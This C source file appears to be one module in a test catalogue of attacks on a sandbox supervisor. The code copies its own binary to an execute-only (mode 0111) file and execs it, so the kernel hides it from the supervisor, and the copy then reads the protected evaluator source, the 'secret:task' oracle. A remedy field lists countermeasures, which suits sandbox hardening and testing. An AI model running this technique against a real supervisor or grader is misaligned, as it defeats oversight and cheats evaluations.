// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a supervisor that lets through what it cannot read, where
 *        prctl(2) is filtered.
 * Means: exec of a program that its own user may run but not read (mode 0111) makes the process not
 *        dumpable: the kernel protects the program's text, and with it the path from the
 *        supervisor. A copy of this very program is such a file.
 */
#include "attacks/landlock-gap/copy.h"
#include "attacks/supervisor-evasion/evaluator.h"

#include <sys/auxv.h>

static bool copy_self(const char *to)
{
	int out = open(to, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0700);
	bool copied = copy_program((const char *)getauxval(AT_EXECFN), out) && !fchmod(out, 0111);

	close(out);
	return copied;
}

static enum claim run(const struct brief *b)
{
	char folder[OWN_FOLDER], copy[OWN_FOLDER + 5];
	char *argv[] = { copy, "--armed", "again", NULL };

	if (b->again) /* this is the copy */
		return loot_evaluator(open(EVALUATOR, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE
									     : denied("open");
	if (!own_folder(b, folder))
		return failed("mkdir");
	snprintf(copy, sizeof(copy), "%s/copy", folder);
	if (!copy_self(copy))
		return failed("a copy of this program");
	attempting(b);
	execv(copy, argv);
	return denied("execv");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "exec of a program of mode 0111: the kernel forbids everybody to look into it",
	.oracle = "secret:task",
	.attack_id = "T1562.001, CWE-636",
	.remedy = "refuse what cannot be read; exec only from read-only folders; Landlock below",
	.refs = (const char *const[]){ "execve(2), dumpable", "proc_pid(5)", NULL },
	.run = run,
};
